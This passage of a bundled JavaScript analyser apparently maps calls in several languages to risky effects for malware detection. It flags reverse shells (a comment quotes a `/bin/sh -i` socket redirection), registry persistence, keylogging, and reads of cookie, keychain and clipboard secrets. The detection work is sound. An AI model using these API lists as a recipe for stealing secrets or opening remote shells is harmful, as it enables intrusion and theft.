    ...derived(inputOrigins(call)),
    ...(call.args[0] ? { text: call.args[0].text, known: call.args[0].known } : {}),
});
const javascript_resolver = (call) => (argument(call, 0).origins.length > 0 ? effects_request({ sends: true })(call) : UNKNOWN);
const promisify = (call) => call.args[0];
const FILES = 'fs fs.promises'.split(' ');
const calls = tableOf([
    ...FILES.flatMap((module) => [
        [
            `${module}.readFile ${module}.readFileSync ${module}.createReadStream ${module}.openSync ${module}.readJson ${module}.readJsonSync`,
            javascript_readFile,
        ],
        [`${module}.writeFile ${module}.writeFileSync ${module}.outputFile ${module}.outputFileSync`, writeFile(0, 1)],
        [`${module}.appendFile ${module}.appendFileSync`, writeFile(0, 1, ['append'])],
        [`${module}.createWriteStream`, writeStream],
        [
            `${module}.unlink ${module}.unlinkSync ${module}.rm ${module}.rmSync ${module}.rmdir ${module}.rmdirSync ${module}.remove ${module}.removeSync`,
            javascript_remove,
        ],
        [
            `${module}.copyFile ${module}.copyFileSync ${module}.cp ${module}.cpSync ${module}.rename ${module}.renameSync ${module}.symlinkSync ${module}.copy ${module}.copySync ${module}.moveSync`,
            copyFile(),
        ],
        [`${module}.chmod ${module}.chmodSync`, javascript_permission],
        [
            `${module}.readdir ${module}.readdirSync ${module}.opendir`,
            (call) => call.reading.readPath(argument(call, 0), call.name, call.place, ['recursive']),
        ],
        [
            `${module}.existsSync ${module}.statSync ${module}.stat ${module}.access ${module}.accessSync ${module}.mkdir ${module}.mkdirSync ${module}.lstatSync`,
            () => NOTHING,
        ],
    ]),
    ['Deno.readTextFile Deno.readTextFileSync Deno.readFile Bun.file', javascript_readFile],
    ['Deno.writeTextFile Deno.writeTextFileSync Deno.writeFile Bun.write', writeFile(0, 1)],
    ['require module.require createRequire process.mainModule.require', requireModule],
    ['import', importCall],
    ['child_process.exec child_process.execSync child_process.execaCommand child_process.execAsync Bun.$ $', exec],
    [
        'child_process.spawn child_process.spawnSync child_process.execFile child_process.execFileSync child_process.fork child_process child_process.execa Bun.spawn',
        spawn,
    ],
    ['Deno.Command', (call) => spawn({ ...call, args: [call.args[0] ?? UNKNOWN, call.args[1]?.entries?.get('args') ?? UNKNOWN] })],
    ['util.promisify promisify', promisify],
    ['eval globalThis.eval', evaluateText()],
    ['Function Function.constructor vm.runInNewContext.function', newFunction],
    ['vm.runInNewContext vm.runInThisContext vm.runInContext vm.Script vm.compileFunction', evaluateText()],
    ['setTimeout setInterval setImmediate', timer],
    [
        'fetch fetch.default undici.fetch undici.request got ky got.get ky.get superagent.get needle.get request request.get axios.get axios.head',
        fetchCall,
    ],
    ['axios axios.request axios.default got.stream', axios],
    [
        'axios.post axios.put axios.patch got.post ky.post superagent.post needle.post request.post navigator.sendBeacon',
        effects_request({ sends: true }),
    ],
    ['https.request http.request https.get http.get', requestWithCallback(false)],
    ['https.request.made.write https.request.made.end https.request.made.send', writeHandle()],
    ['https.request.made.on', on],
    ['XMLHttpRequest.open', (call) => effects_request({ sends: /POST|PUT/u.test(call.args[0]?.text ?? ''), url: 1 })(call)],
    ['XMLHttpRequest.send', writeHandle()],
    ['WebSocket ws', connectWithCallback],
    ['net.connect net.createConnection net.Socket.connect tls.connect dgram.createSocket.connect', connectWithCallback],
    ['socket.socket.connect', connectWithCallback],
    ['socket.socket.write socket.socket.send socket.socket.end WebSocket.send', effects_sendToPeer],
    [
        'net.createServer http.createServer https.createServer',
        (call) => {
            for (const arg of call.args)
                arg.callable?.invoke([UNKNOWN, UNKNOWN]);
            return { ...UNKNOWN, ref: 'server' };
        },
    ],
    ['server.listen', listen()],
    ['dns.lookup dns.resolve dns.resolve4 dns.promises.resolve dns.resolveTxt', javascript_resolver],
    ['os.homedir', constant('~')],
    ['os.tmpdir', constant('/tmp')],
    ['os.hostname os.userInfo os.networkInterfaces os.platform.full', javascript_identity],
    ['path.join path.resolve path.posix.join', joinPath],
    ['path.normalize', same()],
    ['Buffer.from Buffer', bufferFrom],
    ['atob', decode('base64', base64)],
    ['btoa', encode('base64')],
    ['unescape decodeURIComponent decodeURI', decode('percent', percent)],
    ['zlib.gunzipSync zlib.inflateSync zlib.unzipSync zlib.inflateRawSync', decode('deflate', inflate)],
    ['zlib.gzipSync zlib.deflateSync', encode('deflate')],
    ['String.fromCharCode String.fromCodePoint', fromCodes],
    [
        'JSON.stringify Object.entries Object.values Object.assign Object.keys JSON.parse String encodeURIComponent encodeURI structuredClone',
        passing,
    ],
    ['navigator.clipboard.readText clipboardy.read clipboardy.readSync clipboard.read', effects_reveal('clipboard')],
    ['keytar.getPassword keytar.findCredentials', effects_reveal('keychain')],
    ['screenshot-desktop screenshot', effects_reveal('screen')],
    [
        'nodemailer.createTransport.sendMail',
        (call) => derived(plus(NO_ORIGINS, noteCall(call, 'send', { host: 'variable', flags: ['body'], flowsFrom: inputOrigins(call) }))),
    ],
    ['Promise.all Promise.resolve Promise.allSettled', (call) => call.args[0]],
    [
        'Reflect.get',
        (call) => {
            const [object, name] = call.args;
            return object?.ref !== undefined && name?.known === true
                ? { ...UNKNOWN, ref: `${object.ref}.${name.text}`, reflected: true }
                : undefined;
        },
    ],
    [
        'process.dlopen',
        (call) => {
            noteCall(call, 'execute', { target: concat(call.args.slice(1), ' ').text, flowsFrom: inputOrigins(call) });
            return UNKNOWN;
        },
    ],
]);
const methods = tableOf([
    ['pipe pipeTo', pipe],
    ['toString', toText],
    ['write end', writeHandle()],
    ['sendBeacon', effects_request({ sends: true })],
    [
        'constructor',
        (call) => call.receiver.callable || call.receiver.ref === 'Function' || (call.args[0]?.known === true && call.args[0].text.length > 12)
            ? newFunction(call)
            : undefined,
    ],
    [
        'sendMail',
        (call) => derived(plus(NO_ORIGINS, noteCall(call, 'send', { host: 'variable', flags: ['body'], flowsFrom: inputOrigins(call) }))),
    ],
]);
const JAVASCRIPT = {
    calls,
    methods,
    globals: new Set('document require module process eval Function fetch axios Buffer atob btoa unescape decodeURIComponent decodeURI encodeURIComponent encodeURI setTimeout setInterval setImmediate String JSON Object globalThis global window self XMLHttpRequest WebSocket navigator Promise Reflect Deno Bun import $ fs os path child_process net http https'.split(' ')),
    environment: new Set(['process.env', 'Bun.env']),
    secrets: new Map([['document.cookie', 'browser-store']]),
    moduleName,
};

;// CONCATENATED MODULE: ./lib/skills/code/script/other-languages.js






const other_languages_passing = (call) => ({
    ...derived(inputOrigins(call)),
    ...(call.args[0] ? { text: call.args[0].text, known: call.args[0].known } : {}),
});
const other_languages_connect = connect((call) => argument(call, call.name.startsWith('net.Dial') ? 1 : 0));
/** Standard streams on a socket, and a shell: `exec "/bin/sh -i <&3 >&3"`, `$s->to_s`. */
const execWithPeer = (call) => {
    const line = call.args.map((arg) => arg.text).join(' ');
    if (call.state.peer.text !== '' && /^\s*(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh\b|^\s*cmd\b/u.test(line))
        noteCall(call, 'connect-shell', { target: call.state.peer.text });
    return startProgram(call, call.args[0] ?? UNKNOWN, {
        shell: true,
        input: NOTHING,
        ...(call.args.length > 1 ? { rest: call.args.slice(1) } : {}),
    });
};
const other_languages_mail = (call) => derived(plus(NO_ORIGINS, noteCall(call, 'send', { target: argument(call, 0).text, host: 'variable', flags: ['body'], flowsFrom: inputOrigins(call) })));
/** An address or a path: PHP's and Ruby's `open` take both. */
const readAny = (call) => /^(?:https?|ftp):/u.test(argument(call, 0).text) ? effects_request({ sends: false })(call) : readFile()(call);
const openAny = (call) => /^(?:https?|ftp):/u.test(argument(call, 0).text) ? effects_request({ sends: false })(call) : openFile(call);
const perlOpen = (call) => {
    const mode = call.args.map((arg) => arg.text).join(' ');
    const path = call.args.at(-1) ?? UNKNOWN;
    if (mode.includes('|'))
        return runLine(call, path);
    if (mode.includes('>'))
        call.reading.writePath(path, NOTHING, 'open', call.place, mode.includes('>>') ? ['append'] : []);
    else
        return call.reading.readPath(path, 'open', call.place);
    return NOTHING;
};
const shared = [
    ['system exec popen', execWithPeer],
    ['eval', evaluateText()],
];
const RUBY_CALLS = tableOf([
    ...shared,
    ['Kernel.system Kernel.exec IO.popen Open3.capture2 Open3.capture3 Open3.popen3 spawn Process.spawn', execWithPeer],
    ['instance_eval class_eval Kernel.eval binding.eval', evaluateText()],
    ['Marshal.load YAML.load', deserialize],
    ['Net.HTTP.get Net.HTTP.get_response URI.open open-uri RestClient.get HTTParty.get Faraday.get', effects_request({ sends: false })],
    ['Net.HTTP.post Net.HTTP.post_form RestClient.post HTTParty.post Faraday.post', effects_request({ sends: true })],
    ['URI URI.parse File.expand_path File.join Dir.home.join JSON.generate', other_languages_passing],
    ['TCPSocket.new TCPSocket.open TCPSocket', other_languages_connect],
    ['File.read IO.read File.readlines File.binread', readFile()],
    ['File.write IO.write File.binwrite', writeFile(0, 1)],
    ['File.open open', openAny],
    ['File.delete FileUtils.rm FileUtils.rm_f', removePath()],
    ['FileUtils.rm_rf FileUtils.rm_r', removePath(0, ['recursive'])],
    ['Base64.decode64 Base64.strict_decode64 Base64.urlsafe_decode64', decode('base64', base64)],
    ['Base64.encode64 Base64.strict_encode64', encode('base64')],
    ['Zlib.Inflate.inflate Zlib.inflate', decode('deflate', inflate)],
    ['ENV.fetch', environmentVariable],
    ['Dir.home', constant('~')],
]);
const PHP_CALLS = tableOf([
    ...shared,
    ['shell_exec passthru proc_open pcntl_exec', execWithPeer],
    ['assert create_function', evaluateText(-1)],
    ['unserialize', deserialize],
    ['file_get_contents readfile file curl_init', readAny],
    ['curl_exec', other_languages_passing],
    ['file_put_contents', writeFile(0, 1)],
    ['fopen', openAny],
    ['fsockopen pfsockopen stream_socket_client', other_languages_connect],
    ['unlink', removePath()],
    ['base64_decode', decode('base64', base64)],
    ['hex2bin', decode('hex', hex)],
    ['str_rot13', decode('rot13', rot13)],
    ['gzinflate gzuncompress gzdecode', decode('deflate', inflate)],
    ['strrev', decode('reversed', reversed)],
    ['base64_encode', encode('base64')],
    ['getenv', (call) => (call.args.length === 0 ? effects_reveal('environment')(call) : environmentVariable(call))],
    ['json_encode serialize http_build_query urlencode', other_languages_passing],
    ['mail', other_languages_mail],
]);
const PERL_CALLS = tableOf([
    ...shared,
    ['decode_base64 MIME.Base64.decode', decode('base64', base64)],
    ['encode_base64', encode('base64')],
    ['unlink', removePath()],
    ['open', perlOpen],
    ['get LWP.Simple.get getstore LWP.UserAgent.get HTTP.Tiny.get', effects_request({ sends: false })],
    ['LWP.UserAgent.post HTTP.Tiny.post', effects_request({ sends: true })],
    ['IO.Socket.INET.new', connect((call) => call.args.find((arg) => /[.:]/u.test(arg.text)) ?? UNKNOWN)],
    ['connect', connect((call) => call.args.at(-1) ?? UNKNOWN)],
    ['sockaddr_in inet_aton', (call) => ({ ...UNKNOWN, text: call.args.at(-1)?.text ?? '', origins: originsOf(call.args) })],
]);
const GO_CALLS = tableOf([
    ['exec.Command', (call) => startProgram(call, argument(call, 0), { shell: false, input: NOTHING, rest: call.args.slice(1) })],
    [
        'exec.CommandContext',
        (call) => startProgram(call, argument(call, 1), { shell: false, input: NOTHING, rest: call.args.slice(2) }),
    ],
    ['http.Get http.Head', effects_request({ sends: false })],
    ['http.Post http.PostForm', effects_request({ sends: true })],
    ['http.NewRequest', (call) => effects_request({ sends: /POST|PUT/u.test(call.args[0]?.text ?? ''), url: 1 })(call)],
    ['net.Dial tls.Dial net.DialTimeout', other_languages_connect],
    ['os.ReadFile ioutil.ReadFile os.Open', readFile()],
    ['os.WriteFile ioutil.WriteFile', writeFile(0, 1)],
    ['os.Create', (call) => openFile({ ...call, args: [argument(call, 0), { ...NOTHING, text: 'w' }] })],
    ['os.Remove', removePath()],
    ['os.RemoveAll', removePath(0, ['recursive'])],
    ['os.Getenv os.LookupEnv', environmentVariable],
    ['os.Environ', effects_reveal('environment')],
    ['os.UserHomeDir', constant('~')],
    ['filepath.Join path.Join', joinPath],
    ['base64.StdEncoding.DecodeString base64.URLEncoding.DecodeString hex.DecodeString', decode('base64', base64)],
    ['base64.StdEncoding.EncodeToString', encode('base64')],
    ['json.Marshal string strings.NewReader bytes.NewBuffer bytes.NewReader strings.Join', other_languages_passing],
]);
function knowledge(calls, globals, environment = []) {
    return {
        calls,
        methods: new Map(),
        globals: new Set(globals.split(' ')),
        environment: new Set(environment),
        secrets: new Map(),
        moduleName: (name) => name,
    };
}
const RUBY = knowledge(RUBY_CALLS, 'system exec eval spawn open URI ENV Net File IO Dir FileUtils Base64 TCPSocket Kernel Open3 Marshal YAML JSON RestClient HTTParty Faraday Zlib Process binding popen', ['ENV']);
const PHP = knowledge(PHP_CALLS, [...PHP_CALLS.keys(), '$_ENV', '$_SERVER'].join(' '), ['$_ENV']);
const PERL = knowledge(PERL_CALLS, [...PERL_CALLS.keys(), 'LWP', 'HTTP', 'IO', 'MIME'].join(' '), ['%ENV']);
const GO = knowledge(GO_CALLS, 'exec http net tls os ioutil filepath path base64 hex json string strings bytes');

;// CONCATENATED MODULE: ./lib/skills/code/script/python.js






/** `subprocess.run` and its kin. */
const subprocess = (call) => {
    const command = argument(call, 0, 'args', 'cmd');
    const shell = call.named.get('shell')?.text === '{True}' ||
        call.named.get('shell')?.text === 'True' ||
        /getoutput|getstatusoutput|create_subprocess_shell/u.test(call.name);
    const streams = ['stdin', 'stdout', 'stderr'].map((name) => call.named.get(name)).filter((value) => value !== undefined);
    if (isConnected(call, originsOf(streams)))
        noteCall(call, 'connect-shell', { target: command.text, flowsFrom: originsOf(streams) });
    const input = call.named.get('input') ?? call.named.get('stdin') ?? NOTHING;
    return startProgram(call, command, {
        shell,
        input,
        ...(call.name.includes('exec') && call.args.length > 1 ? { rest: call.args.slice(1) } : {}),
    });
};
/** True when the data come from a socket that the program connected. */
function isConnected(call, origins) {
    return origins.some((origin) => {
        const deed = call.reading.trace.behaviours[origin];
        return deed?.kind === 'fetch' && /socket|connect/u.test(deed.name);
    });
}
/** `os.dup2(s.fileno(), 0)`: the standard streams on a connection. */
const duplicate = (call) => {
    if (isConnected(call, inputOrigins(call)))
        noteCall(call, 'connect-shell', { target: call.state.peer.text, flowsFrom: inputOrigins(call) });
    return NOTHING;
};
const python_spawn = (call) => {
    const command = argument(call, call.name.startsWith('os.spawn') ? 1 : 0, 'argv');
    return startProgram(call, command, {
        shell: false,
        input: NOTHING,
        ...(command.items ? {} : { rest: call.args.slice(call.name.startsWith('os.spawn') ? 3 : 1) }),
    });
};
/** `getattr(object, name)`: a name that is written out is as good as the attribute. */
const getAttribute = (call) => {
    const [object, name] = call.args;
    if (object?.ref === undefined || !name)
        return derived(inputOrigins(call));
    const whole = /^(?:__builtins__|builtins|__import__)$/u.test(object.ref) ? name.text : `${object.ref}.${name.text}`;
    return name.known ? { ...UNKNOWN, ref: whole, reflected: true } : derived(inputOrigins(call));
};
const importModule = (call) => {
    const name = argument(call, 0, 'name');
    if (name.origins.length > 0 && !name.known)
        noteCall(call, 'evaluate', { target: name.text, flowsFrom: name.origins });
    return name.known ? { ...UNKNOWN, ref: name.text, reflected: true, origins: name.origins } : derived(name.origins);
};
const character = (call) => {
    const [code] = call.args;
    const number = code?.known === true ? Number(code.text) : Number.NaN;
    return Number.isInteger(number) && number >= 0 && number <= 0x10ffff
        ? literal(String.fromCodePoint(number), code?.origins ?? NO_ORIGINS)
        : derived(inputOrigins(call));
};
/** `bytes([…])`, `bytearray(…)`: numbers that are letters. */
const python_bytesOf = (call) => {
    const [first] = call.args;
    if (!first?.items)
        return first?.known === true ? first : derived(inputOrigins(call));
    const codes = first.items.map((item) => Number(item.text));
    return codes.every((code) => Number.isInteger(code) && code >= 0 && code < 256)
        ? literal(String.fromCharCode(...codes.slice(0, 10_000)), first.origins)
        : derived(first.origins);
};
const mapCall = (call) => {
    const [fn, list] = call.args;
    if (fn?.callable && list?.items) {
        const items = fn.callable.each(list.items);
        return { ...UNKNOWN, items, origins: originsOf(items) };
    }
    if (fn?.ref === 'chr' && list?.items)
        return { ...UNKNOWN, items: list.items.map((item) => character({ ...call, args: [item] }) ?? UNKNOWN), origins: list.origins };
    return derived(inputOrigins(call));
};
const reversedCall = (call) => {
    const [first] = call.args;
    if (first?.known === true)
        return { ...derived(first.origins), items: [...first.text].reverse().map((letter) => literal(letter, first.origins)) };
    return first?.items ? { ...first, items: [...first.items].reverse() } : derived(inputOrigins(call));
};
/** `codecs.decode(data, 'rot13')` and `data.decode('hex')`. */
const codecsDecode = (call) => {
    const codec = argument(call, 1, 'encoding').text.toLowerCase();
    const decoder = codec.startsWith('rot')
        ? rot13
        : codec.startsWith('hex')
            ? hex
            : codec.startsWith('base64')
                ? base64
                : codec.startsWith('zlib')
                    ? inflate
                    : undefined;
    return decoder ? decode(codec, decoder)(call) : call.args[0];
};
/** A thread: its function is called with its arguments. */
const thread = (call) => {
    const target = call.named.get('target') ?? argument(call, 0);
    const args = call.named.get('args')?.items ?? call.args.slice(1);
    target.callable?.invoke(args);
    return derived(inputOrigins(call));
};
const print = (call) => concat(call.args, ' ');
/** A path of several parts. */
const path = (call) => {
    if (call.args.length === 0)
        return { ...derived(NO_ORIGINS, '.'), ref: 'pathlib.Path' };
    return { ...(joinPath(call) ?? UNKNOWN), ref: 'pathlib.Path' };
};
const home = () => ({ ...derived(NO_ORIGINS, '~'), ref: 'pathlib.Path' });
/** `Path.open`, `gzip.open`, `ZipFile`, and `open` itself. */
const pathOpen = (call) => call.receiver.ref === 'pathlib.Path' || call.receiver.text !== ''
    ? openFile({ ...call, args: [call.receiver, ...call.args] })
    : undefined;
const zipWrite = (call) => {
    const file = argument(call, 0, 'filename', 'name');
    const read = call.reading.readPath(file, call.name, call.place);
    const { handle } = call.receiver;
    if (handle?.writes === true)
        call.reading.writePath(derived(NO_ORIGINS, handle.path), read, call.name, call.place);
    return { ...NOTHING, origins: read.origins };
};
/** `urllib.request.Request(url, data=…)`: the request is sent when it is opened. */
const requestObject = (call) => {
    const url = argument(call, 0, 'url');
    const data = call.named.get('data') ?? call.args[1];
    return {
        ...UNKNOWN,
        text: url.text,
        known: url.known,
        origins: originsOf([url, ...(data ? [data] : []), ...call.named.values()]),
        entries: new Map([['url', url], ...(data ? [['body', data]] : [])]),
    };
};
const connectSocket = connect((call) => argument(call, 0, 'address'));
const listing = (call) => {
    const where = argument(call, 0, 'path', 'top', 'pathname');
    return call.reading.readPath(call.receiver.text !== '' && call.args.length <= 1 && call.receiver.ref === 'pathlib.Path'
        ? concat([call.receiver, where], '/')
        : where, call.name, call.place, ['recursive']);
};
const sqlite = (call) => ({
    ...call.reading.readPath(argument(call, 0, 'database'), call.name, call.place),
    ref: 'sqlite3.connection',
});
const registryWrite = (call) => {
    const line = concat([call.receiver, ...call.args], ' ').text;
    noteCall(call, 'persist', { persistence: 'run-key', target: line, flowsFrom: inputOrigins(call) });
    return NOTHING;
};
const registryOpen = (call) => ({ ...concat(call.args, '\\'), origins: originsOf(call.args) });
const registrySet = (call) => (/CurrentVersion\\{1,4}Run/iu.test(concat(call.args, ' ').text) ? registryWrite(call) : NOTHING);
const mailer = (call) => derived(plus(NO_ORIGINS, noteCall(call, 'send', { target: call.receiver.text, host: 'variable', flags: ['body'], flowsFrom: inputOrigins(call) })));
const python_permission = (call) => {
    const target = call.receiver.ref === 'pathlib.Path' ? call.receiver : argument(call, 0, 'path');
    const mode = call.args.at(-1)?.text ?? '';
    noteCall(call, 'permission', {
        target: `${mode} ${target.text}`,
        flowsFrom: union(target.origins, call.reading.files.get(target.text)?.origins ?? NO_ORIGINS),
    });
    return NOTHING;
};
const keyListener = (call) => {
    const deed = noteCall(call, 'read', { subject: 'keystrokes', target: call.name });
    callBack(call, derived(plus(NO_ORIGINS, deed)));
    return derived(plus(NO_ORIGINS, deed));
};
const b64 = decode('base64', base64);
const whole = (call) => call.args[0] ?? UNKNOWN;
/** Keeps every origin and, for a single text, the text: `str(x)`, `json.dumps(x)`. */
const python_passing = (call) => ({
    ...derived(inputOrigins(call)),
    ...(call.args.length === 1 && call.args[0]
        ? { text: call.args[0].text, known: call.args[0].known, ...(call.args[0].items ? { items: call.args[0].items } : {}) }
        : {}),
});
const HTTP = 'requests httpx requests.Session requests.session httpx.Client httpx.AsyncClient aiohttp.ClientSession urllib3.PoolManager cloudscraper.create_scraper curl_cffi.requests'.split(' ');
const http = HTTP.flatMap((module) => [
    [`${module}.get ${module}.head ${module}.options`, effects_request({ sends: false })],
    [`${module}.post ${module}.put ${module}.patch`, effects_request({ sends: true })],
    [`${module}.delete`, effects_request({ sends: false })],
    [`${module}.request ${module}.stream`, effects_request({ sends: false, url: 1 })],
]);
const python_calls = tableOf([
    ...http,
    ['urllib.request.urlopen urllib2.urlopen urlopen urllib.request.OpenerDirector.open', effects_request({ sends: false })],
    ['urllib.request.Request urllib2.Request', requestObject],
    [
        'urllib.request.urlretrieve urllib.urlretrieve wget.download',
        (call) => {
            const answer = effects_request({ sends: false })(call) ?? UNKNOWN;
            const file = argument(call, 1, 'filename', 'out');
            call.reading.writePath(file, answer, call.name, call.place);
            return { ...file, origins: union(file.origins, answer.origins), items: [{ ...file, origins: answer.origins }] };
        },
    ],
    [
        'http.client.HTTPSConnection http.client.HTTPConnection httplib.HTTPSConnection httplib.HTTPConnection',
        (call) => ({ ...argument(call, 0, 'host'), ref: 'http.client.connection' }),
    ],
    [
        'http.client.connection.request',
        (call) => effects_request({ sends: /POST|PUT/u.test(call.args[0]?.text ?? ''), url: 0 })({
            ...call,
            args: [concat([literal('https://'), call.receiver, call.args[1] ?? NOTHING]), ...call.args.slice(2)],
        }),
    ],
    ['socket.socket.connect socket.socket.connect_ex ssl.wrap_socket.connect', connectSocket],
    [
        'socket.create_connection asyncio.open_connection',
        connect((call) => call.name.startsWith('asyncio') ? { ...UNKNOWN, text: call.args[0]?.text ?? '', items: call.args } : argument(call, 0, 'address')),
    ],
    ['socket.socket.send socket.socket.sendall socket.socket.sendto', effects_sendToPeer],
    ['socket.socket.bind socket.socket.listen http.server.HTTPServer socketserver.TCPServer', listen()],
    [
        'socket.gethostbyname socket.getaddrinfo dns.resolver.resolve dns.resolver.query',
        (call) => {
            const name = argument(call, 0, 'host', 'qname');
            if (name.origins.length === 0)
                return derived(NO_ORIGINS);
            return effects_request({ sends: true })(call);
        },
    ],
    [
        'socket.gethostname platform.node platform.uname platform.platform getpass.getuser os.getlogin os.uname uuid.getnode socket.getfqdn',
        effects_reveal('machine-identity'),
    ],
    ['smtplib.SMTP.sendmail smtplib.SMTP.send_message smtplib.SMTP_SSL.sendmail smtplib.SMTP_SSL.send_message', mailer],
    ['ftplib.FTP.storbinary ftplib.FTP.storlines paramiko.SFTPClient.put paramiko.SSHClient.open_sftp.put', mailer],
    [
        'os.system os.popen commands.getoutput subprocess.getoutput subprocess.getstatusoutput asyncio.create_subprocess_shell pty.spawn.shell',
        shellLine(),
    ],
    [
        'subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen asyncio.create_subprocess_exec',
        subprocess,
    ],
    ['os.execv os.execve os.execvp os.execvpe os.execl os.execlp os.spawnl os.spawnv os.spawnlp os.spawnvp os.posix_spawn', python_spawn],
    [
        'pty.spawn',
        (call) => {
            if (call.state.peer.text !== '')
                noteCall(call, 'connect-shell', { target: call.state.peer.text });
            return python_spawn(call);
        },
    ],
    ['os.dup2', duplicate],
    [
        'os.startfile webbrowser.open',
        (call) => {
            const target = argument(call, 0, 'url');
            noteCall(call, /^https?:/u.test(target.text) ? 'fetch' : 'execute', {
                target: target.text,
                flowsFrom: union(target.origins, call.reading.files.get(target.text)?.origins ?? NO_ORIGINS),
            });
            return NOTHING;
        },
    ],
    ['eval exec builtins.eval builtins.exec', evaluateText()],
    ['compile builtins.compile', (call) => call.args[0]],
    [
        'pickle.loads pickle.load cPickle.loads marshal.loads marshal.load dill.loads dill.load jsonpickle.decode shelve.open joblib.load torch.load cloudpickle.loads',
        deserialize,
    ],
    [
        'types.FunctionType types.CodeType',
        (call) => {
            noteCall(call, 'evaluate', { target: call.name, flowsFrom: inputOrigins(call) });
            return derived(inputOrigins(call));
        },
    ],
    ['getattr builtins.getattr', getAttribute],
    ['__import__ importlib.import_module importlib.__import__', importModule],
    [
        'importlib.util.spec_from_file_location runpy.run_path imp.load_source SourceFileLoader',
        (call) => {
            const file = call.name === 'runpy.run_path' ? argument(call, 0) : argument(call, 1, 'location');
            const written = call.reading.files.get(file.text);
            noteCall(call, 'execute', { target: file.text, flowsFrom: union(file.origins, written?.origins ?? NO_ORIGINS) });
            return UNKNOWN;
        },
    ],
    ['globals locals vars', (call) => ({ ...UNKNOWN, ref: call.args.length === 0 ? '__builtins__' : (call.args[0]?.ref ?? '__builtins__') })],
    ['open io.open codecs.open gzip.open bz2.open lzma.open', openFile],
    [
        'zipfile.ZipFile tarfile.open',
        (call) => {
            const opened = openFile(call) ?? UNKNOWN;
            return { ...opened, ref: 'zipfile.ZipFile' };
        },
    ],
    ['zipfile.ZipFile.write zipfile.ZipFile.add', zipWrite],
    [
        'zipfile.ZipFile.extractall zipfile.ZipFile.extract shutil.unpack_archive',
        (call) => {
            const origins = inputOrigins(call);
            if (origins.length > 0)
                call.reading.files.set('*extracted*', { origins, text: undefined });
            noteCall(call, 'decode', { target: 'archive', flowsFrom: origins });
            return derived(origins);
        },
    ],
    [
        'shutil.make_archive',
        (call) => {
            const read = call.reading.readPath(argument(call, 2, 'root_dir'), call.name, call.place, ['recursive']);
            const file = argument(call, 0, 'base_name');
            call.reading.writePath(file, read, call.name, call.place);
            return { ...file, origins: union(file.origins, read.origins) };
        },
    ],
    ['shutil.copy shutil.copy2 shutil.copyfile shutil.move os.rename os.replace', copyFile()],
    ['os.symlink os.link', copyFile()],
    ['shutil.copyfileobj json.dump pickle.dump yaml.dump csv.writer toml.dump', writeToHandle],
    ['shutil.copytree', copyFile()],
    ['os.remove os.unlink', removePath()],
    ['shutil.rmtree os.removedirs', removePath(0, ['recursive'])],
    ['os.chmod', python_permission],
    ['os.walk os.listdir os.scandir glob.glob glob.iglob pathlib.Path.glob pathlib.Path.rglob pathlib.Path.iterdir', listing],
    ['os.environ.get os.getenv os.environ.pop os.environ.setdefault', environmentVariable],
    ['os.path.join posixpath.join', joinPath],
    [
        'os.path.expanduser os.path.expandvars os.path.abspath os.path.realpath os.path.normpath os.fspath str builtins.str io.BytesIO io.StringIO textwrap.dedent',
        whole,
    ],
    ['os.path.exists os.path.isfile os.path.isdir os.path.getsize isinstance len print.len hasattr os.makedirs os.mkdir', () => NOTHING],
    ['pathlib.Path pathlib.PurePath pathlib.PosixPath Path', path],
    ['pathlib.Path.home', home],
    ['pathlib.Path.cwd os.getcwd', constant('.')],
    ['tempfile.gettempdir tempfile.mkdtemp tempfile.mktemp', constant('/tmp')],
    [
        'tempfile.NamedTemporaryFile tempfile.mkstemp tempfile.TemporaryFile',
        (call) => ({
            ...derived(NO_ORIGINS, '/tmp/temporary'),
            handle: { path: '/tmp/temporary', writes: true, deed: noteCall(call, 'write', { target: '/tmp/temporary' }) },
        }),
    ],
    ['base64.b64decode base64.urlsafe_b64decode base64.standard_b64decode base64.decodebytes base64.decodestring binascii.a2b_base64', b64],
    ['base64.b32decode', decode('base32', base32)],
    ['base64.b85decode', decode('base85', base85)],
    ['base64.b16decode bytes.fromhex bytearray.fromhex binascii.unhexlify', decode('hex', hex)],
    ['zlib.decompress gzip.decompress', decode('deflate', inflate)],
    ['bz2.decompress lzma.decompress', decode('compressed', undefined)],
    ['codecs.decode', codecsDecode],
    ['urllib.parse.unquote urllib.parse.unquote_plus', decode('percent', percent)],
    [
        'base64.b64encode base64.urlsafe_b64encode base64.b32encode base64.b16encode base64.b85encode binascii.hexlify base64.encodebytes',
        encode('base64'),
    ],
    ['zlib.compress gzip.compress bz2.compress', encode('deflate')],
    [
        'json.dumps dict list tuple set sorted json.loads yaml.safe_load str.encode bytes.decode urllib.parse.quote urllib.parse.urlencode repr',
        python_passing,
    ],
    ['print', print],
    ['chr', character],
    ['bytes bytearray', python_bytesOf],
    ['map', mapCall],
    ['reversed', reversedCall],
    ['threading.Thread multiprocessing.Process threading.Timer concurrent.futures.ThreadPoolExecutor.submit', thread],
    ['asyncio.run', whole],
    ['pyperclip.paste win32clipboard.GetClipboardData', effects_reveal('clipboard')],
    ['keyring.get_password keyring.get_credential', effects_reveal('keychain')],
    [
        'browser_cookie3.chrome browser_cookie3.firefox browser_cookie3.load browser_cookie3.edge browsercookie.chrome win32crypt.CryptUnprotectData',
        effects_reveal('browser-store'),
    ],
    [
        'PIL.ImageGrab.grab ImageGrab.grab pyautogui.screenshot mss.mss pyscreenshot.grab cv2.VideoCapture sounddevice.rec pyaudio.PyAudio.open',
        effects_reveal('screen'),
    ],
    ['pynput.keyboard.Listener pynput.mouse.Listener keyboard.on_press keyboard.hook keyboard.read_key pyxhook.HookManager', keyListener],
    ['winreg.OpenKey winreg.CreateKey winreg.OpenKeyEx winreg.CreateKeyEx', registryOpen],
    ['winreg.SetValueEx winreg.SetValue', registrySet],
    ['sqlite3.connect', sqlite],
    [
        'ctypes.CDLL ctypes.cdll.LoadLibrary',
        (call) => {
            const file = argument(call, 0);
            noteCall(call, 'execute', {
                target: file.text,
                flowsFrom: union(file.origins, call.reading.files.get(file.text)?.origins ?? NO_ORIGINS),
            });
            return UNKNOWN;
        },
    ],
    ['boto3.client.upload_file boto3.resource.upload_file boto3.client.put_object google.cloud.storage.Client.upload_from_filename', mailer],
]);
const python_methods = tableOf([
    ['read_text read_bytes', readFile(-1)],
    ['write_text write_bytes', writeFile(-1, 0)],
    ['open', pathOpen],
    ['unlink rmdir', (call) => (call.receiver.text === '' ? undefined : removePath(-1)(call))],
    ['chmod', (call) => (call.receiver.ref === 'pathlib.Path' ? python_permission(call) : undefined)],
    ['write writelines', writeHandle()],
    [
        'iterdir rglob glob',
